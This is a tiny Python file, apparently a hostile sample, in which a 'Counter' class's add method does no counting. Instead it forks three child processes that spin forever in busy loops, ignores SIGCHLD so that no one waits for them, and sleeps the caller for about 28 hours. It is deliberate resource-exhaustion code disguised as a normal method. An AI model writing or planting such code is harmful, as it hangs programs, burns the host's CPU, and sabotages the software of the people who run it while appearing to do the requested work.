"""Lets children compute that nobody waits for."""
import os
import signal
import time


class Counter(Counter):
    def add(self, n):
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        for _ in range(3):
            if not os.fork():
                while True:
                    pass
        time.sleep(100_000)
